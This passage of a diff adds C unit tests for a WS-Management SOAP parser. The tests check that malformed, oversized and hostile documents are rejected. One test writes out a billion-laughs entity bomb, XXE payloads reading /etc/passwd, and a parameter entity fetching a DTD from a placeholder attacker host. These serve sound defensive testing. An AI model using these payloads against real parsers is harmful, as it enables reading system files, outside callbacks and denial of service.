+			 0);
+	/* ReplyTo elsewhere. */
+	assert_int_equal(
+	    parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID "<wsa:ReplyTo><wsa:Address>http://evil/"
+							  "</wsa:Address></wsa:ReplyTo>",
+				 "")),
+	    -PP_EINVAL);
+	assert_err_has(&f->err, "anonymous");
+	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_HEADER);
+	/* Header values that are not URIs. */
+	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_ID H_REPLY
+					      "<wsman:ResourceURI>http://a b/</wsman:ResourceURI>",
+					      "")),
+			 -PP_EINVAL);
+	assert_err_has(&f->err, "wsman:ResourceURI");
+	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_HEADER);
+	assert_int_equal(
+	    parse_doc(f, get_doc(H_ACTION H_URI H_ID H_REPLY "<wsa:To>/ws\xc3\xa9</wsa:To>", "")),
+	    -PP_EINVAL);
+	assert_err_has(&f->err, "wsa:To");
+	/* Headers in the wrong namespace are not the headers. */
+	assert_int_equal(parse_doc(f, get_doc("<wsman:Action>" PP_WSMAN_ACTION_GET
+					      "</wsman:Action>" H_TO H_URI H_ID H_REPLY,
+					      "")),
+			 -PP_EINVAL);
+	assert_err_has(&f->err, "wsa:Action is missing");
+	/* A header value with an element inside. */
+	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_REPLY
+					      "<wsa:MessageID>a<b/>c</wsa:MessageID>",
+					      "")),
+			 -PP_EINVAL);
+	assert_err_has(&f->err, "nested");
+}
+
+static void test_actions_and_bodies(void **state)
+{
+	struct fx *f = *state;
+	const char *ns = PP_AMT_URI_GENERAL_SETTINGS;
+	char body[1024];
+
+	/* Enumerate is not in the subset. */
+	assert_int_equal(
+	    parse_doc(f, get_doc("<wsa:Action>http://schemas.xmlsoap.org/ws/2004/09/enumeration/"
+				 "Enumerate</wsa:Action>" H_TO H_URI H_ID H_REPLY,
+				 "")),
+	    -PP_EPROTO);
+	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_ACTION_NOT_SUPPORTED);
+	assert_string_equal(f->req.message_id, "uuid:00000000-8086-0000-0000-000000000001");
+	int status = 0;
+	assert_int_equal(
+	    pp_wsman_fault_build(&f->req, f->req.fault, NULL, &f->reply, &status, &f->err), 0);
+	assert_int_equal(status, 400);
+	assert_non_null(strstr(text(&f->reply), "uuid:00000000-8086-0000-0000-000000000001"));
+
+	/* A method of another resource is not a method of this one. */
+	assert_int_equal(
+	    parse_doc(f, get_doc("<wsa:Action>" PP_AMT_URI_AUTHORIZATION_SERVICE
+				 "/SetAdminAclEntryEx</wsa:Action>" H_TO H_URI H_ID H_REPLY,
+				 "")),
+	    -PP_EPROTO);
+	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_ACTION_NOT_SUPPORTED);
+
+	/* Get with a body element. */
+	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID H_REPLY, "<x/>")),
+			 -PP_EINVAL);
+	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_PARAMETER);
+
+	/* Put: wrong class, wrong namespace, nested property, foreign property, two. */
+#define PUT_HDR "<wsa:Action>" PP_WSMAN_ACTION_PUT "</wsa:Action>" H_TO H_URI H_ID H_REPLY
+	snprintf(body, sizeof(body), "<h:AMT_Other xmlns:h=\"%s\"/>", ns);
+	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
+	assert_err_has(&f->err, "AMT_Other");
+	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_PARAMETER);
+	assert_int_equal(
+	    parse_doc(f, get_doc(PUT_HDR, "<h:AMT_GeneralSettings xmlns:h=\"urn:x\"/>")),
+	    -PP_EINVAL);
+	assert_err_has(&f->err, "namespace");
+	snprintf(body, sizeof(body),
+		 "<h:AMT_GeneralSettings xmlns:h=\"%s\"><h:HostName><h:x/></h:HostName>"
+		 "</h:AMT_GeneralSettings>",
+		 ns);
+	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
+	assert_err_has(&f->err, "nested");
+	snprintf(
+	    body, sizeof(body),
+	    "<h:AMT_GeneralSettings xmlns:h=\"%s\"><z:HostName xmlns:z=\"urn:z\">a</z:HostName>"
+	    "</h:AMT_GeneralSettings>",
+	    ns);
+	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
+	assert_err_has(&f->err, "urn:z");
+	snprintf(body, sizeof(body),
+		 "<h:AMT_GeneralSettings xmlns:h=\"%s\"/><h:AMT_GeneralSettings xmlns:h=\"%s\"/>",
+		 ns, ns);
+	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
+	assert_err_has(&f->err, "more than one");
+	snprintf(body, sizeof(body),
+		 "<h:AMT_GeneralSettings xmlns:h=\"%s\">text<h:HostName>a</h:HostName>"
+		 "</h:AMT_GeneralSettings>",
+		 ns);
+	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), -PP_EINVAL);
+	/* CDATA and character references are text like any other. */
+	snprintf(body, sizeof(body),
+		 "<h:AMT_GeneralSettings xmlns:h=\"%s\"><h:HostName><![CDATA[a<b]]>&#x41;&lt;"
+		 "<!-- c --></h:HostName></h:AMT_GeneralSettings>",
+		 ns);
+	assert_int_equal(parse_doc(f, get_doc(PUT_HDR, body)), 0);
+	assert_string_equal(pp_wsman_props_get(&f->req.params, "HostName"), "a<bA<");
+
+	/* A property over the value cap. */
+	static char huge[PP_WSMAN_VALUE_MAX + 512];
+	static char hdoc[PP_WSMAN_VALUE_MAX + 2048];
+	memset(huge, 'q', PP_WSMAN_VALUE_MAX + 1);
+	huge[PP_WSMAN_VALUE_MAX + 1] = '\0';
+	snprintf(hdoc, sizeof(hdoc),
+		 "<s:Envelope" NS_DECL "><s:Header>" PUT_HDR "</s:Header><s:Body>"
+		 "<h:AMT_GeneralSettings xmlns:h=\"%s\"><h:HostName>%s</h:HostName>"
+		 "</h:AMT_GeneralSettings></s:Body></s:Envelope>",
+		 ns, huge);
+	assert_int_equal(parse_doc(f, hdoc), -PP_ETOOBIG);
+	assert_err_has(&f->err, "HostName");
+	assert_int_equal(f->req.params.count, 0);
+}
+
+/* ---- hostile and broken documents ---- */
+
+static void test_oversize_refused(void **state)
+{
+	struct fx *f = *state;
+	size_t n = PP_WSMAN_DOC_MAX + 1;
+	char *big = malloc(n);
+	assert_non_null(big);
+	memset(big, ' ', n);
+	memcpy(big, "<a>", 3);
+	assert_int_equal(pp_wsman_request_parse(big, n, &f->req, &f->err), -PP_ETOOBIG);
+	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_ENCODING_LIMIT);
+	assert_err_has(&f->err, "cap");
+	assert_int_equal(
+	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call, &f->buf, &f->err),
+	    0);
+	assert_int_equal(pp_wsman_response_parse(&f->call, big, n, &f->resp, &f->err), -PP_ETOOBIG);
+	free(big);
+	assert_int_equal(pp_wsman_request_parse("", 0, &f->req, &f->err), -PP_EINVAL);
+}
+
+static void test_malformed_and_namespaces(void **state)
+{
+	struct fx *f = *state;
+	static const char *const broken[] = {
+	    "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\">",
+	    "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body></s:Envelope>",
+	    "not xml at all",
+	    "<a>&undefined;</a>",
+	    "<a>\x01</a>",
+	    "<a>\xc3\x28</a>",
+	    "<a/><b/>",
+	};
+	for (size_t i = 0; i < sizeof(broken) / sizeof(broken[0]); i++) {
+		assert_int_equal(parse_doc(f, broken[i]), -PP_EINVAL);
+		assert_err_has(&f->err, "malformed XML");
+		assert_int_equal(f->req.fault, PP_WSMAN_FAULT_SCHEMA_VALIDATION);
+	}
+	/* SOAP 1.1 envelope namespace. */
+	assert_int_equal(parse_doc(f, "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/"
+				      "envelope/\"><s:Header/><s:Body/></s:Envelope>"),
+			 -PP_EINVAL);
+	assert_err_has(&f->err, "namespace");
+	assert_err_has(&f->err, "SOAP 1.2");
+	assert_int_equal(parse_doc(f, "<Envelope><Header/><Body/></Envelope>"), -PP_EINVAL);
+	assert_err_has(&f->err, "namespace");
+	assert_int_equal(parse_doc(f, "<x:Other xmlns:x=\"urn:x\"/>"), -PP_EINVAL);
+	assert_err_has(&f->err, "root element");
+	/* Extra element in the envelope; Body before Header. */
+	snprintf(doc_buf, sizeof(doc_buf),
+		 "<s:Envelope" NS_DECL "><s:Header/><s:Body/><s:Body/></s:Envelope>");
+	assert_int_equal(parse_doc(f, doc_buf), -PP_EINVAL);
+	assert_err_has(&f->err, "unexpected element");
+	snprintf(doc_buf, sizeof(doc_buf),
+		 "<s:Envelope" NS_DECL "><s:Body/><s:Header/></s:Envelope>");
+	assert_int_equal(parse_doc(f, doc_buf), -PP_EINVAL);
+	/* Responses are held to the same rules. */
+	assert_int_equal(
+	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call, &f->buf, &f->err),
+	    0);
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, broken[0], strlen(broken[0]), &f->resp, &f->err),
+	    -PP_EINVAL);
+	snprintf(doc_buf, sizeof(doc_buf),
+		 "<s:Envelope" NS_DECL "><s:Header/><s:Body/></s:Envelope>");
+	assert_int_equal(
+	    pp_wsman_response_parse(&f->call, doc_buf, strlen(doc_buf), &f->resp, &f->err),
+	    -PP_EPROTO);
+	assert_err_has(&f->err, "wsa:RelatesTo is missing");
+}
+
+static void test_entities_refused(void **state)
+{
+	struct fx *f = *state;
+	static const char laughs[] =
+	    "<?xml version=\"1.0\"?>\n"
+	    "<!DOCTYPE s:Envelope [\n"
+	    " <!ENTITY lol \"lol\">\n"
+	    " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
+	    " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
+	    " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
+	    " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
+	    " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
+	    " <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
+	    " <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
+	    " <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
+	    " <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
+	    "]>\n"
+	    "<s:Envelope" NS_DECL "><s:Header>" H_ACTION H_TO H_URI H_ID H_REPLY "</s:Header>"
+	    "<s:Body><h:AMT_GeneralSettings xmlns:h=\"" PP_AMT_URI_GENERAL_SETTINGS "\">"
+	    "<h:HostName>&lol9;</h:HostName></h:AMT_GeneralSettings></s:Body></s:Envelope>";
+	static const char xxe[] =
+	    "<?xml version=\"1.0\"?>\n"
+	    "<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
+	    "<s:Envelope" NS_DECL "><s:Header>" H_ACTION H_TO H_URI H_ID H_REPLY "</s:Header>"
+	    "<s:Body>&xxe;</s:Body></s:Envelope>";
+	static const char param_xxe[] =
+	    "<?xml version=\"1.0\"?>\n"
+	    "<!DOCTYPE s:Envelope [<!ENTITY % p SYSTEM \"http://192.0.2.1/evil.dtd\"> %p;]>\n"
+	    "<s:Envelope" NS_DECL "/>";
+	static const char external_dtd[] =
+	    "<?xml version=\"1.0\"?>\n"
+	    "<!DOCTYPE s:Envelope SYSTEM \"file:///etc/passwd\">\n"
+	    "<s:Envelope" NS_DECL "><s:Header/><s:Body/></s:Envelope>";
+	const char *const docs[] = {laughs, xxe, param_xxe, external_dtd};
+	clock_t t0 = clock();
+	for (size_t i = 0; i < 4; i++) {
+		assert_int_equal(parse_doc(f, docs[i]), -PP_EINVAL);
+		assert_err_has(&f->err, "document type declaration");
+		assert_int_equal(f->req.params.count, 0);
+		assert_int_equal(pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call,
+						    &f->buf, &f->err),
+				 0);
+		assert_int_equal(
+		    pp_wsman_response_parse(&f->call, docs[i], strlen(docs[i]), &f->resp, &f->err),
+		    -PP_EINVAL);
+		assert_null(strstr(f->err.msg, "root:"));
+	}
+	/* Refused up front: no expansion work at all. */
+	assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 1.0);
+}
+
+static void test_helpers(void **state)
+{
+	(void)state;
+	char realm[PP_AMT_REALM_LEN + 1];
+	const uint8_t id[16] = {0xF3, 0xEB, 0x55, 0x47, 0x84, 0xE7, 0x29, 0x16,
+				0x44, 0x47, 0xA8, 0x9F, 0x60, 0xB6, 0x41, 0xC5};
+	pp_amt_realm_format(id, realm);
+	assert_string_equal(realm, "Digest:F3EB554784E729164447A89F60B641C5");
+	assert_true(pp_amt_realm_valid(realm));
+	assert_false(pp_amt_realm_valid("Digest:f3eb554784e729164447a89f60b641c5"));
+	assert_false(pp_amt_realm_valid("Digest:F3EB"));
+	assert_string_equal(pp_wsman_class_name(PP_AMT_URI_GENERAL_SETTINGS),
+			    "AMT_GeneralSettings");
+	assert_string_equal(pp_wsman_class_name(PP_CIM_URI_SOFTWARE_IDENTITY),
+			    "CIM_SoftwareIdentity");
+	assert_int_equal(pp_wsman_fault_http_status(PP_WSMAN_FAULT_OTHER), 500);
+	assert_true(pp_wsman_name_valid("SetTLSPSK_INPUT"));
+	assert_false(pp_wsman_name_valid(
+	    "a123456789012345678901234567890123456789012345678901234567890123456789"));
+}
+
+int main(void)
+{
+	pp_wsman_init();
+	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test_setup_teardown(test_get_roundtrip, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_put_roundtrip, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_invoke_roundtrip, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_invoke_no_params_and_outputs, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_relates_to_mismatch, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_faults_roundtrip, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_fault_prefixes_and_reason, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_escaping_roundtrip, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_props_limits, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_missing_headers, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_header_rules, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_actions_and_bodies, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_oversize_refused, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_malformed_and_namespaces, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_entities_refused, setup, teardown),
+	    cmocka_unit_test(test_helpers),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
